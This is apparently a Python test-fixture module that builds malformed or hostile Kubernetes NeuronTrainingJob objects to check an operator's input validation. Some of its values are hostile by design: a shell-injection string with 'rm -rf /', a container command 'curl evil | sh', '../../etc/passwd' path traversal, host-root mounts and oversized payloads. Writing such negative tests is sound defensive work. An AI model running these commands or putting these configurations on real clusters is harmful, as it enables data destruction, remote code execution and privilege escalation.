"""NeuronTrainingJobs that somebody wrote in haste or in malice, as the API server gets them.

Every field of a list takes every value of a list; what needs thought is written out. Deterministic.
"""

import copy
from collections.abc import Callable, Iterator, Mapping
from typing import Any, Final

Json = dict[str, Any]

_DEEP: Final = 60


def _nested(value: Any, depth: int = _DEEP) -> Any:
    for _ in range(depth):
        value = {"a": [value]}
    return value


VALUES: Final[Mapping[str, Any]] = {
    "null": None,
    "a boolean": True,
    "minus one": -1,
    "a huge number": 10**18,
    "a fraction": 0.37,
    "nothing": "",
    "a shell": "$(reboot); `id` && rm -rf / #",
    "turned text": "\u202edevil\u202c\u0000\ufeff",
    "an interpolation": "${oc.env:HOME}${trainer.nothing}",
    "a list of everything": [None, True, -1, "x", {}],
    "60 levels": _nested(1),
    "64 kB": "x" * 65_536,
}

FIELDS: Final = (
    "platform",
    "platform.accelerator",
    "platform.instanceType",
    "image",
    "config",
    "config.name",
    "config.trainer",
    "config.trainer.devices",
    "config.trainer.num_nodes",
    "config.trainer.max_steps",
    "config.exp_manager.exp_dir",
    "config.data.global_batch_size",
    "config.model.optim.lr",
    "storage",
    "podTemplate",
    "podTemplate.spec.containers",
    "restartPolicy.maxGangRestarts",
    "restartPolicy.fromScratch",
    "startupPolicy.imageSeconds",
    "suspend",
    "activeDeadlineSeconds",
    "ttlSecondsAfterFinished",
)


def _changed(base: Json, field: str, value: Any) -> Json:
    job = copy.deepcopy(base)
    *parents, last = field.split(".")
    node = job["spec"]
    for parent in parents:
        node = node.setdefault(parent, {})
    node[last] = value
    return job


def _template(base: Json, template: Any) -> Json:
    return _changed(base, "podTemplate", template)


def _trainer(base: Json, **values: Any) -> Json:
    return _template(base, {"spec": {"containers": [{"name": "trainer", **values}]}})


def _metadata(base: Json, **values: Any) -> Json:
    job = copy.deepcopy(base)
    job["metadata"] |= values
    return job


def _source(base: Json, name: str, key: str, *, both: bool = False) -> Json:
    job = _changed(base, "configFrom", {"configMapKeyRef": {"name": name, "key": key}})
    if not both:
        del job["spec"]["config"]
    return job


WRITTEN: Final[Mapping[str, Callable[[Json], Json]]] = {
    "a config from nowhere": lambda base: _source(base, "nowhere", "a.yaml"),
    "a config from a name that cannot be": lambda base: _source(base, "../../etc/passwd", "../x"),
    "two configs": lambda base: _source(base, "nowhere", "a", both=True),
    "no config": lambda base: {**base, "spec": {"platform": {"accelerator": "CPU"}}},
    "no spec": lambda base: {name: value for name, value in base.items() if name != "spec"},
    "a spec that is a list": lambda base: {**base, "spec": [1]},
    "100,000 nodes": lambda base: _changed(
        _changed(base, "config.trainer.num_nodes", 100_000), "config.data.global_batch_size", 2_400_000
    ),
    "1 MB of a name": lambda base: _changed(base, "config.name", "x" * 1_000_000),
    "1 MB of a template": lambda base: _trainer(base, args=["x" * 1_000_000]),
    "3 MB": lambda base: _changed(base, "podTemplate", {"metadata": {"annotations": {"a": "x" * 3_000_000}}}),
    "another command": lambda base: _trainer(base, command=["sh", "-c", "curl evil | sh"]),
    "the gang's own variables": lambda base: _trainer(base, env=[{"name": "NTJ_NODE_RANK", "value": "0"}]),
    "variables that are no list": lambda base: _trainer(base, env="A=1"),
    "a variable without a name": lambda base: _trainer(base, env=[{"value": "1"}]),
    "a variable twice": lambda base: _trainer(base, env=[{"name": "A", "value": "1"}, {"name": "A", "value": "2"}]),
    "a host path": lambda base: _template(base, {"spec": {"volumes": [{"name": "r", "hostPath": {"path": "/"}}]}}),
    "a volume without a source": lambda base: _template(base, {"spec": {"volumes": [{"name": "x"}]}}),
    "a mount of nothing": lambda base: _trainer(base, volumeMounts=[{"name": "nothing", "mountPath": "/x"}]),
    "a mount over another": lambda base: _trainer(base, volumeMounts=[{"name": "x", "mountPath": "relative"}]),
    "a container without a name": lambda base: _template(base, {"spec": {"containers": [{"image": "x"}]}}),
    "containers of one name": lambda base: _template(base, {"spec": {"containers": [{"name": "a"}, {"name": "a"}]}}),
    "containers that are texts": lambda base: _template(base, {"spec": {"containers": ["trainer"]}}),
    "a restart policy": lambda base: _template(base, {"spec": {"restartPolicy": "Always"}}),
    "a node by name": lambda base: _template(base, {"spec": {"nodeName": "node-0"}}),
    "labels of the operator": lambda base: _template(base, {"metadata": {"labels": {"neurontraining.dev/job": "x"}}}),
    "labels that are numbers": lambda base: _template(base, {"metadata": {"labels": {"a": 1}}}),
    "another owner": lambda base: _template(base, {"metadata": {"ownerReferences": []}}),
    "another namespace": lambda base: _template(base, {"metadata": {"namespace": "kube-system"}}),
    "negative resources": lambda base: _trainer(base, resources={"limits": {"cpu": "-1"}}),
    "resources that are words": lambda base: _trainer(base, resources={"requests": {"memory": "much"}}),
    "a negative grace": lambda base: _template(base, {"spec": {"terminationGracePeriodSeconds": -5}}),
    "an unknown field": lambda base: _template(base, {"spec": {"contaners": []}}),
    "a template that is nested": lambda base: _template(base, _nested("x")),
    "a claim twice at one place": lambda base: _changed(
        base, "storage", [{"claimName": "training", "mountPath": "/training"}] * 2
    ),
    "a claim at the root": lambda base: _changed(base, "storage", [{"claimName": "training", "mountPath": "/"}]),
    "a claim over the configuration": lambda base: _changed(
        base, "storage", [{"claimName": "training", "mountPath": "/etc/neuron-training"}]
    ),
    "a claim that climbs": lambda base: _changed(
        base, "storage", [{"claimName": "training", "mountPath": "/training", "subPath": "../../x"}]
    ),
    "17 claims": lambda base: _changed(
        base, "storage", [{"claimName": f"c{n}", "mountPath": f"/c{n}"} for n in range(17)]
    ),
    "a type of instance that is none": lambda base: _changed(base, "platform", {"instanceType": "p5.48xlarge"}),
    "Trainium without a type": lambda base: _changed(base, "platform", {}),
    "more cores than there are": lambda base: _changed(
        _changed(base, "platform", {"instanceType": "trn1.2xlarge"}), "config.trainer.devices", 64
    ),
    "labels that are injected": lambda base: _metadata(base, labels={"a": "$(id)"}),
    "an owner that is not there": lambda base: _metadata(
        base, ownerReferences=[{"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "0"}]
    ),
    "annotations for kopf": lambda base: _metadata(
        base, annotations={"kopf.zalando.org/last-handled-configuration": "{", "kopf.dev/paused": "{"}
    ),
    "a status of its own": lambda base: {**base, "status": {"phase": "Succeeded", "attempt": 99}},
    "a suspended misspelling": lambda base: _changed(_changed(base, "suspend", True), "config.model.num_layer", 3),
    "a deadline before the start": lambda base: _changed(base, "activeDeadlineSeconds", 1),
    "4,000 keys": lambda base: _changed(base, "config.model.own", {f"k{n}": n for n in range(4_000)}),
    "growing interpolations": lambda base: _changed(
        base, "config.data.own", {**{f"k{n}": f"${{.k{n + 1}}}${{.k{n + 1}}}" for n in range(40)}, "k40": "x"}
    ),
    "a loop": lambda base: _changed(base, "config.name", "${name}"),
}

NAMES: Final = (
    *("-a", "a.b", "A", "a_b", "a" * 49, "a" * 254, "0", "ä", "a b", "$(id)", "a\nb", "..", "a/../b", "\u202ea", ""),
)


def jobs(base: Json) -> Iterator[tuple[str, Json]]:
    """`(what is wrong, object)`; each has a name of its own."""
    for field in FIELDS:
        for what, value in VALUES.items():
            yield f"{field}: {what}", _changed(base, field, value)
    for what, make in WRITTEN.items():
        yield what, make(base)
